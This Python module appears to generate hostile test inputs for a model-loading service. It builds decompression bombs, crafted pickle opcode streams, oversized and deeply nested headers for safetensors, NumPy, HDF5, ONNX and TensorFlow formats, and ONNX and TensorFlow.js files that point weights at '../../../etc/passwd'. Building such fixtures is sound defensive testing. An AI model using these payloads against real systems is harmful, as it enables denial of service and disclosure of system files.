"""Small files that ask for far more than they are: seconds, memory, the whole process, another file.

`ATTACKS` has their builders by name; each gives the file's name and its bytes.
"""

from __future__ import annotations

import gzip
import io
import itertools
import json
import pickle
import random
import struct
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import numpy as np

Attack = Callable[[], tuple[str, bytes]]
ATTACKS: dict[str, Attack] = {}
MB = 2**20


def attack(name: str) -> Callable[[Attack], Attack]:
    def add(build: Attack) -> Attack:
        ATTACKS[name] = build
        return build

    return add


def zipped(members: Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


# --- PyTorch


def checkpoint(program: bytes, numbers: Iterable[tuple[str, bytes]] = ()) -> tuple[str, bytes]:
    members = [("a/data.pkl", program), *((f"a/data/{key}", data) for key, data in numbers)]
    return "evil.pt", zipped(members)


def _doubled(count: int) -> bytes:
    """A tuple of two of the tuple before, `count` times over."""
    return b")" + b"".join(b"q%ch%c\x86" % (k, k) for k in range(count))


@attack("PyTorch: a key of doubled tuples")
def doubled_key() -> tuple[str, bytes]:
    return checkpoint(b"\x80\x02}" + _doubled(40) + b"Ns.")


@attack("PyTorch: doubled tuples that are called")
def doubled_call() -> tuple[str, bytes]:
    return checkpoint(b"\x80\x02" + _doubled(40) + b")R.")


@attack("PyTorch: doubled tuples for a shape")
def doubled_shape() -> tuple[str, bytes]:
    storage = b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x01tQ"
    call = b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00" + _doubled(40) + b")tR."
    return checkpoint(b"\x80\x02" + call, [("0", bytes(4))])


@attack("PyTorch: doubled lists")
def doubled_lists() -> tuple[str, bytes]:
    return checkpoint(b"\x80\x02]" + b"".join(b"q%c](h%ch%ce" % (k, k, k) for k in range(60)) + b".")


@attack("PyTorch: many marks")
def marks() -> tuple[str, bytes]:
    return checkpoint(b"\x80\x02]" + b"N" * 40_000 + b"(t" * 20_000 + b".")


@attack("PyTorch: a million operations")
def operations() -> tuple[str, bytes]:
    return checkpoint(b"\x80\x02" + b"N0" * 2_000_000 + b"N.")


@attack("PyTorch: tuples in tuples, 300,000 deep")
def deep_tuples() -> tuple[str, bytes]:
    return checkpoint(b"\x80\x02}N" + b"\x85" * 300_000 + b"Ns.")


@attack("PyTorch: a number of a million digits")
def digits() -> tuple[str, bytes]:
    return checkpoint(b"\x80\x02I" + b"9" * 10**6 + b"\n.")


@attack("PyTorch: one tensor under 2,000 names")
def named_often() -> tuple[str, bytes]:
    storage = b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuJ\x00\x00\x04\x00tQ"
    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00(J\x00\x00\x04\x00t(K\x01t\x89NtR"
    items = b"".join(b"X\x05\x00\x00\x00%05d" % k + tensor for k in range(2000))
    return checkpoint(b"\x80\x02}(" + items + b"u.", [("0", bytes(MB))])


@attack("PyTorch before 1.6: pickles without an end")
def legacy() -> tuple[str, bytes]:
    parts = [pickle.dumps(each, 2) for each in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    return "evil.pt", b"".join(parts) + b"\x80\x02}" + _doubled(40) + b"Ns." + b"\x80\x02" + b"(" * 10**6


# --- safetensors


def tensors(header: bytes, data: bytes = b"") -> tuple[str, bytes]:
    return "evil.safetensors", struct.pack("<Q", len(header)) + header + data


@attack("safetensors: a header of 100 MB")
def long_header() -> tuple[str, bytes]:
    return tensors(b"{" + b" " * (100 * MB) + b"}")


@attack("safetensors: a million tensors")
def many_tensors() -> tuple[str, bytes]:
    one = '"%07d":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}'
    return tensors(b"{" + ",".join(one % k for k in range(10**6)).encode() + b"}")


@attack("safetensors: 9,000 tensors of the same megabyte")
def overlapping_tensors() -> tuple[str, bytes]:
    one = {"dtype": "BF16", "shape": [MB // 2], "data_offsets": [0, MB]}
    return tensors(json.dumps({f"t{k}": one for k in range(9000)}).encode(), bytes(MB))


@attack("safetensors: lists in lists")
def deep_header() -> tuple[str, bytes]:
    return tensors(b'{"a":' + b"[" * 10**6)


@attack("safetensors: a million numbers of a shape")
def long_shape() -> tuple[str, bytes]:
    shape = ",".join(["1"] * 10**6)
    return tensors(b'{"a":{"dtype":"F32","shape":[%s],"data_offsets":[0,4]}}' % shape.encode(), bytes(4))


# --- NumPy


def array(header: bytes, data: bytes = b"", version: int = 2) -> bytes:
    length = struct.pack("<H" if version == 1 else "<I", len(header))
    return b"\x93NUMPY" + bytes([version, 0]) + length + header + data


def _header(shape: str, type_: str = "<f4") -> bytes:
    return b"{'descr': '%s', 'fortran_order': False, 'shape': %s, }\n" % (type_.encode(), shape.encode())


@attack("NumPy: a shape of 2^80 numbers")
def large_shape() -> tuple[str, bytes]:
    return "evil.npy", array(_header("(1099511627776, 1099511627776)"))


@attack("NumPy: a shape of nothing times 2^70")
def empty_shape() -> tuple[str, bytes]:
    return "evil.npy", array(_header("(0, 1180591620717411303424)"))


@attack("NumPy: a header of 50 MB")
def long_array_header() -> tuple[str, bytes]:
    return "evil.npy", array(_header("(" + "1," * (25 * MB) + ")"))


@attack("NumPy: brackets in brackets")
def deep_array_header() -> tuple[str, bytes]:
    return "evil.npy", array(_header("(" * 9000), version=1)


@attack("NumPy: a type of a gigabyte a number")
def large_type() -> tuple[str, bytes]:
    return "evil.npy", array(_header("(2,)", "|V1073741824"), bytes(64))


@attack("NumPy: 9,900 arrays")
def many_arrays() -> tuple[str, bytes]:
    return "evil.npz", zipped((f"{k}.npy", array(_header("(1,)"), bytes(4))) for k in range(9900))


# --- Archives


@attack("zip: 400 MB of zeros")
def zip_bomb() -> tuple[str, bytes]:
    return "evil.npz", zipped([("a.npy", array(_header(f"({100 * MB},)")) + bytes(400 * MB))])


@attack("zip: zips in a zip")
def nested_zips() -> tuple[str, bytes]:
    data = zipped([(f"{k}.bin", bytes(20 * MB)) for k in range(4)])
    for _level in range(3):
        data = zipped([(f"{k}.zip", data) for k in range(10)])
    return "evil.zip", data


def _entry(name: bytes, start: int, size: int, packed: int, crc: int) -> bytes:
    fixed = struct.pack(
        "<4s6H3I5H2I",
        b"PK\x01\x02", 20, 20, 0, 8, 0, 33, crc, packed, size, len(name), 0, 0, 0, 0, 0, start,
    )  # fmt: skip
    return fixed + name


def _directory(body: bytes, entries: list[bytes]) -> bytes:
    listed = b"".join(entries)
    count = min(len(entries), 0xFFFF)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(listed), len(body), 0)
    return body + listed + end


@attack("zip: 9,000 files that are one")
def overlapping_entries() -> tuple[str, bytes]:
    data = zipped([("0", bytes(100_000))])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info, start = archive.infolist()[0], archive.start_dir
    names = [b"%d" % k for k in range(9000)]
    entries = [_entry(name, 0, info.file_size, info.compress_size, info.CRC) for name in names]
    return "evil.zip", _directory(data[:start], entries)


@attack("zip: a million files")
def many_files() -> tuple[str, bytes]:
    return "evil.zip", _directory(b"PK\x03\x04", [_entry(b"%d" % k, 0, 0, 0, 0) for k in range(10**6)])


@attack("zip: a size that lies")
def lying_size() -> tuple[str, bytes]:
    data = zipped([("a.npy", bytes(200 * MB))])
    return "evil.npz", data.replace(struct.pack("<I", 200 * MB), struct.pack("<I", 10))


@attack("gzip: 500 MB of zeros")
def gzip_bomb() -> tuple[str, bytes]:
    return "evil.h5.gz", gzip.compress(bytes(500 * MB), 1)


@attack("gzip: a tar of 200,000 files")
def many_members() -> tuple[str, bytes]:
    header = tarfile.TarInfo("a").tobuf()
    return "evil.tar.gz", gzip.compress(header * 200_000 + bytes(1024), 1)


@attack("tar: a header that is a gigabyte long")
def long_tar_header() -> tuple[str, bytes]:
    info = tarfile.TarInfo("a")
    info.type, info.size = tarfile.XHDTYPE, 2**30
    return "evil.tar", info.tobuf() + b"1" * 10_000_000


# --- HDF5


def hierarchy(fill: Callable[..., None], name: str = "evil.weights.h5") -> tuple[str, bytes]:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        fill(file)
    return name, buffer.getvalue()


def _variables(file: Any, **options: object) -> Iterator[Any]:
    group = file.create_group("layers/lstm/cell/vars")
    for name in "01":
        yield group.create_dataset(name, (2**11, 2**13), "f4", chunks=(2**10, 2**10), **options)


@attack("HDF5: 130 MB that were never written")
def unwritten() -> tuple[str, bytes]:
    return hierarchy(lambda file: list(_variables(file, compression="gzip")))


@attack("HDF5: 130 MB of zeros")
def packed_zeros() -> tuple[str, bytes]:
    def fill(file: Any) -> None:
        chunk = zlib.compress(bytes(4 * 2**20))  # one for all
        for each in _variables(file, compression="gzip"):
            for row, column in itertools.product(range(0, 2**11, 2**10), range(0, 2**13, 2**10)):
                each.id.write_direct_chunk((row, column), chunk)

    return hierarchy(fill)


@attack("HDF5: a dataset under 9,000 names")
def linked_often() -> tuple[str, bytes]:
    def fill(file: Any) -> None:
        group = file.create_group("layers/lstm/cell/vars")
        group.create_dataset("0", data=np.zeros(25_000, np.float32))
        for number in range(1, 9000):
            group[str(number)] = group["0"]

    return hierarchy(fill)


@attack("HDF5: a group in itself, with a long attribute")
def cycle() -> tuple[str, bytes]:
    def fill(file: Any) -> None:
        group = file.create_group("vars")
        group.attrs["name"] = "x" * 60_000
        for number in range(100):
            group[str(number)] = group

    return hierarchy(fill)


@attack("HDF5: a text of a megabyte named 3,900 times")
def repeated_text() -> tuple[str, bytes]:
    import h5py

    def fill(file: Any) -> None:
        texts = np.array(["y" * MB, *["x"] * 3_899], object)
        file.attrs.create("layer_names", texts, dtype=h5py.string_dtype())

    name, data = hierarchy(fill, "evil.h5")
    start = data.index(struct.pack("<I", MB) + b"", data.index(b"layer_names"))
    reference = data[start : start + 16]  # length, heap's address, number in the heap
    return name, data[:start] + reference * 3_900 + data[start + 16 * 3_900 :]


@attack("HDF5: 200 attributes of 60 KB in a group of 1,000 names")
def many_attributes() -> tuple[str, bytes]:
    def fill(file: Any) -> None:
        first = file.create_group("g0")
        for number in range(200):
            first.attrs[f"a{number}"] = "x" * 60_000
        for number in range(1, 1000):
            file[f"g{number}"] = first

    return hierarchy(fill)


# --- ONNX


def model(
    nodes: list[object], weights: dict[str, np.ndarray], functions: Iterable[object] = ()
) -> tuple[str, bytes]:
    from onnx import TensorProto, helper, numpy_helper

    graph = helper.make_graph(
        nodes,
        "evil",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, ["t", 1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, None)],
        [numpy_helper.from_array(value, name) for name, value in weights.items()],
    )
    opsets = [helper.make_opsetid("", 14), helper.make_opsetid("evil", 1)]
    made = helper.make_model(graph, opset_imports=opsets, ir_version=8, functions=list(functions))
    return "evil.onnx", made.SerializeToString()


def _lstm(name: str, w: str = "W", r: str = "R", units: int = 2048) -> object:
    from onnx import helper

    return helper.make_node("LSTM", ["X", w, r], [f"Y{name}"], hidden_size=units, name=name)


@attack("ONNX: 200 nodes that share their weights")
def shared_weights() -> tuple[str, bytes]:
    size = 256
    w, r = np.zeros((1, 4 * size, size), np.float32), np.zeros((1, 4 * size, size), np.float32)
    return model([_lstm(f"n{k}", units=size) for k in range(200)], {"W": w, "R": r})


def _made(operator: str, **weights: np.ndarray) -> tuple[str, bytes]:
    from onnx import helper

    inputs = list(weights)
    nodes = [helper.make_node(operator, inputs, [each]) for each in ("W", "R")]
    return model([*nodes, _lstm("n")], weights)


@attack("ONNX: a constant of 2^40 numbers")
def constant_of_shape() -> tuple[str, bytes]:
    return _made("ConstantOfShape", shape=np.array([1, 2**20, 2**20]))


@attack("ONNX: an Expand to 130 MB")
def expand() -> tuple[str, bytes]:
    return _made("Expand", one=np.zeros((1, 1, 1), np.float32), shape=np.array([1, 4 * 2048, 2048]))


@attack("ONNX: a Tile of a Tile")
def tile() -> tuple[str, bytes]:
    return _made("Tile", one=np.zeros((1, 8, 2), np.float32), repeats=np.array([1, 2**12, 2**12]))


@attack("ONNX: 40 doublings")
def doublings() -> tuple[str, bytes]:
    from onnx import helper

    names = [f"a{k}" for k in range(41)]
    nodes = [
        helper.make_node("Concat", [before, before], [after], axis=1)
        for before, after in itertools.pairwise(names)
    ]
    return model([*nodes, _lstm("n", names[-1], names[-1])], {"a0": np.zeros((1, 8, 4), np.float32)})


@attack("ONNX: functions that call one another twice, 40 deep")
def functions() -> tuple[str, bytes]:
    from onnx import helper

    opset = [helper.make_opsetid("", 14), helper.make_opsetid("evil", 1)]

    def function(name: str, inner: str | None) -> object:
        if inner is None:
            nodes = [helper.make_node("Identity", ["x"], ["y"])]
        else:
            nodes = [
                helper.make_node(inner, ["x"], ["a"], domain="evil"),
                helper.make_node(inner, ["a"], ["y"], domain="evil"),
            ]
        return helper.make_function("evil", name, ["x"], ["y"], nodes, opset)

    made = [function("f0", None), *(function(f"f{k}", f"f{k - 1}") for k in range(1, 41))]
    node = helper.make_node("f40", ["a"], ["W"], domain="evil", name="call")
    return model([node, _lstm("n", "W", "W")], {"a": np.zeros((1, 8, 4), np.float32)}, made)


@attack("ONNX: weights in another folder")
def outside() -> tuple[str, bytes]:
    from onnx import TensorProto, load_from_string

    name, data = model(
        [_lstm("n")], {"W": np.zeros((1, 8, 4), np.float32), "R": np.zeros((1, 8, 2), np.float32)}
    )
    made = load_from_string(data)
    for tensor in made.graph.initializer:
        tensor.ClearField("raw_data")
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in (("location", "../../../../etc/passwd"), ("length", str(2**40)), ("offset", "-1")):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
    return name, made.SerializeToString()


@attack("ONNX: graphs in graphs")
def graphs() -> tuple[str, bytes]:
    data = b""
    for _level in range(10_000):  # node { attribute { g } } in bytes, as no library would write it
        for tag in (0x32, 0x2A, 0x0A):
            data = bytes([tag]) + _varint(len(data)) + data
            if len(data) > 10**6:
                break
    return "evil.onnx", b"\x08\x08" + b"\x3a" + _varint(len(data)) + data


# --- TensorFlow


def _varint(number: int) -> bytes:
    number &= 2**64 - 1
    parts = []
    while True:
        number, low = number >> 7, number & 127
        parts.append(low | (128 if number else 0))
        if not number:
            return bytes(parts)


def _crc32c(data: bytes) -> int:
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _bit in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 * (crc & 1))
    crc ^= 0xFFFFFFFF
    return ((crc >> 15 | crc << 17) + 0xA282EAD8) & 0xFFFFFFFF  # masked, as tables keep it


def _block(entries: Iterable[tuple[bytes, bytes]]) -> bytes:
    body = b"".join(
        _varint(0) + _varint(len(key)) + _varint(len(value)) + key + value for key, value in entries
    )
    return body + struct.pack("<II", 0, 1)


def _table(entries: list[tuple[bytes, bytes]]) -> bytes:
    """A checkpoint's index: tensorflow/core/lib/io/format.cc."""
    out = b""
    handles = []
    for block in (_block(entries), _block([])):
        handles.append(_varint(len(out)) + _varint(len(block)))
        out += block + b"\0" + struct.pack("<I", _crc32c(block + b"\0"))
    index = _block([(entries[-1][0] + b"\xff", handles[0])])
    place = _varint(len(out)) + _varint(len(index))
    out += index + b"\0" + struct.pack("<I", _crc32c(index + b"\0"))
    return out + (handles[1] + place).ljust(40, b"\0") + struct.pack("<Q", 0xDB4775248B80FB57)


def bundle(*entries: tuple[str, list[int], int]) -> tuple[str, bytes]:
    """A checkpoint of variables by name, each with the dimensions and the size that it claims."""
    rows = [(b"", b"\x08\x01\x1a\x02\x08\x01")]
    for name, shape, size in sorted(entries):
        dimensions = b"".join(
            b"\x12" + _varint(len(inner)) + inner for inner in (b"\x08" + _varint(each) for each in shape)
        )
        told = b"\x08\x01\x12" + _varint(len(dimensions)) + dimensions + b"\x28" + _varint(size)
        rows.append((name.encode(), told))
    return "evil.zip", zipped([("m.index", _table(rows)), ("m.data-00000-of-00001", bytes(1024))])


@attack("TensorFlow: a dimension of -1")
def negative() -> tuple[str, bytes]:
    return bundle(("rnn/basic_lstm_cell/kernel", [-1, 8], 64), ("rnn/basic_lstm_cell/bias", [8], 32))


@attack("TensorFlow: two dimensions of -1")
def negatives() -> tuple[str, bytes]:
    return bundle(
        ("rnn/basic_lstm_cell/kernel", [-(2**40), -(2**40)], 64), ("rnn/basic_lstm_cell/bias", [8], 32)
    )


@attack("TensorFlow: 800 MB in a kilobyte")
def large_variable() -> tuple[str, bytes]:
    return bundle(("rnn/basic_lstm_cell/kernel", [10_000, 20_000], 800 * 10**6))


@attack("TensorFlow: 2^80 numbers")
def huge_variable() -> tuple[str, bytes]:
    return bundle(("rnn/basic_lstm_cell/kernel", [2**40, 2**40], 64))


@attack("TensorFlow: 9,000 variables of the same bytes")
def many_variables() -> tuple[str, bytes]:
    return bundle(*((f"v{k:05}", [256], 1024) for k in range(9000)))


@attack("TensorFlow Lite: nothing but its first bytes")
def tflite() -> tuple[str, bytes]:
    return "evil.tflite", b"\x1c\x00\x00\x00TFL3" + random.Random(0).randbytes(100_000)


@attack("TensorFlow.js: a description of lists in lists")
def deep_json() -> tuple[str, bytes]:
    return "evil.zip", zipped(
        [("model.json", b'{"modelTopology":' + b'{"a":[' * 500_000), ("w.bin", bytes(64))]
    )


@attack("TensorFlow.js: weights that claim a terabyte, in another folder")
def lying_json() -> tuple[str, bytes]:
    weights = [{"name": "lstm/kernel", "shape": [2**20, 2**18], "dtype": "float32"}]
    told = {
        "format": "layers-model",
        "modelTopology": {},
        "weightsManifest": [{"paths": ["../../../etc/passwd", "w.bin"], "weights": weights * 1000}],
    }
    return "evil.zip", zipped([("model.json", json.dumps(told).encode()), ("w.bin", bytes(64))])


@attack("Keras: a description of 60 MB")
def long_config() -> tuple[str, bytes]:
    config = (
        b'{"module": "keras", "class_name": "Sequential", "config": {"layers": ['
        + b"[]," * (20 * MB)
        + b"[]]}}"
    )
    _name, weights = hierarchy(lambda file: file.create_group("layers"))
    members = [("config.json", config), ("metadata.json", b"{}"), ("model.weights.h5", weights)]
    return "evil.keras", zipped(members)


def lay_out(folder: Path, name: str) -> Path:
    """Writes one of the attacks into a folder of its own; its place."""
    file, data = ATTACKS[name]()
    place = Path(tempfile.mkdtemp(dir=folder), file)
    place.write_bytes(data)
    return place
